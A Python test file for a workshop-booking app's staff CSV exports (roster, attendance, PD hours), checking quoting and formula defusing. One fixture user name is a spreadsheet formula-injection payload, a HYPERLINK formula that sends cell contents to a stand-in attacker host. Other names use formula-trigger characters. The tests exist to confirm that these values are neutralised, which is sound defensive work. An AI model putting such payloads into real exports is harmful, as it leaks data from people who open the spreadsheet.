"""Staff CSV exports: roster, attendance (a column per session), PD hours; quoting and formula safety."""

from __future__ import annotations

import csv
import io

from booking.csv_files import defuse as safe_cell
from booking.scheduling.attendance import mark_attendance
from booking.workflows.complete_offering import complete_offering
from tests.factories import make_user, signed_in
from tests.scheduling.attendance_helpers import enrol, registration, session, staff_member, workshop


def read_csv(response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode("utf-8"))  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def _offering_with_people():
    staff, actor = await staff_member()
    offering = await workshop(
        actor, capacity=3, sessions=[session(2026, 3, 10), session(2026, 3, 17, start_hour=13)], pd_hours="6"
    )
    people = [
        await make_user("attendee", district="EGUSD", name='Ana "Annie" Lopez, M.Ed.', email="ana@example.org"),
        await make_user("attendee", name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', email="evil@example.org"),
        await make_user("attendee", name="+1 555 0100", email="plus@example.org"),
        await make_user("attendee", name="@SUM(A1:A9)", email="at@example.org"),
        await make_user("attendee", name="-Minus Person", email="minus@example.org"),
    ]
    registrations = await enrol(offering["id"], people)
    return staff, actor, offering, people, registrations


async def test_the_roster_export_quotes_correctly_and_defuses_formulas(client):
    staff, actor, offering, people, registrations = await _offering_with_people()
    await signed_in(client, staff)

    response = await client.get(f"/staff/offerings/{offering['id']}/exports/roster.csv")

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="offering-{offering["id"]}-roster.csv"'
    rows = read_csv(response)
    assert rows[0] == [
        "Name",
        "Email",
        "District",
        "Status",
        "Waiting list position",
        "Payer",
        "PO number",
        "Registered",
        "Confirmed",
    ]
    by_email = {row[1]: row for row in rows[1:]}
    assert len(by_email) == 5
    assert by_email["ana@example.org"][:4] == [
        'Ana "Annie" Lopez, M.Ed.',
        "ana@example.org",
        "Elk Grove Unified",
        "Confirmed",
    ]
    assert by_email["evil@example.org"][0] == "'" + people[1]["name"]
    assert by_email["plus@example.org"][0] == "'+1 555 0100"
    assert by_email["at@example.org"][3:5] == ["Waiting list", "1"] and by_email["at@example.org"][0] == "'@SUM(A1:A9)"
    assert (
        by_email["minus@example.org"][3:5] == ["Waiting list", "2"]
        and by_email["minus@example.org"][0] == "'-Minus Person"
    )
    assert by_email["ana@example.org"][8].endswith(("PST", "PDT"))  # local time, as staff read it
    assert b'"Ana ""Annie"" Lopez, M.Ed."' in response.content
    assert response.content.count(b"\r\n") == 6


async def test_the_attendance_export_has_one_column_per_session(client):
    staff, actor, offering, people, registrations = await _offering_with_people()
    s1, s2 = offering["sessions"]
    ana, evil, plus = registrations[:3]
    await mark_attendance(actor, offering["id"], s1["id"], ana["id"], "present")
    await mark_attendance(actor, offering["id"], s2["id"], ana["id"], "present")
    await mark_attendance(actor, offering["id"], s1["id"], evil["id"], "excused")
    await mark_attendance(actor, offering["id"], s2["id"], plus["id"], "absent")
    await signed_in(client, staff)

    rows = read_csv(await client.get(f"/staff/offerings/{offering['id']}/exports/attendance.csv"))

    assert rows[0] == [
        "Name",
        "Email",
        "District",
        "Status",
        "2026-03-10 9:00 AM PDT",
        "2026-03-17 1:00 PM PDT",
        "Sessions present",
    ]
    by_email = {row[1]: row for row in rows[1:]}
    assert set(by_email) == {"ana@example.org", "evil@example.org", "plus@example.org"}  # waiting people have no marks
    assert by_email["ana@example.org"][4:] == ["present", "present", "2"]
    assert by_email["evil@example.org"][4:] == ["excused", "", "0"]
    assert by_email["plus@example.org"][4:] == ["", "absent", "0"]


async def test_the_pd_hours_export_after_completion(client):
    staff, actor, offering, people, registrations = await _offering_with_people()
    ana, evil = registrations[:2]
    for s in offering["sessions"]:
        await mark_attendance(actor, offering["id"], s["id"], ana["id"], "present")
    await mark_attendance(actor, offering["id"], offering["sessions"][0]["id"], evil["id"], "present")
    await complete_offering(actor, offering["id"], confirm_unmarked=True)
    code = (await registration(ana["id"]))["certificate_code"]
    await signed_in(client, staff)

    response = await client.get(f"/staff/offerings/{offering['id']}/exports/pd-hours.csv")

    assert response.headers["content-disposition"] == f'attachment; filename="offering-{offering["id"]}-pd-hours.csv"'
    rows = read_csv(response)
    assert rows[0][:9] == [
        "Name",
        "Email",
        "District",
        "Sessions present",
        "Sessions",
        "Hours attended",
        "Attendance rule met",
        "PD hours awarded",
        "Completed",
    ]
    by_email = {row[1]: row for row in rows[1:]}
    assert set(by_email) == {"ana@example.org", "evil@example.org", "plus@example.org"}  # confirmed people only
    assert by_email["ana@example.org"][3:8] == ["2", "2", "6", "yes", "6"]
    assert by_email["ana@example.org"][9:] == [code, f"http://testserver.local/certificates/{code}"]
    assert len(by_email["ana@example.org"][8]) == 10  # the local date, 2026-11-23 style
    assert by_email["evil@example.org"][3:] == ["1", "2", "3", "no", "", "", "", ""]


async def test_exports_of_an_unknown_offering_are_404(client):
    staff, _ = await staff_member()
    await signed_in(client, staff)
    for name in ("roster", "attendance", "pd-hours"):
        assert (await client.get(f"/staff/offerings/999999/exports/{name}.csv")).status_code == 404


def test_cells_that_a_spreadsheet_would_run_are_made_text():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+1") == "'+1"
    assert safe_cell("-1") == "'-1"
    assert safe_cell("@cmd") == "'@cmd"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("Ana = Lopez") == "Ana = Lopez"
    assert safe_cell(3) == "3"
    assert safe_cell(None) == ""
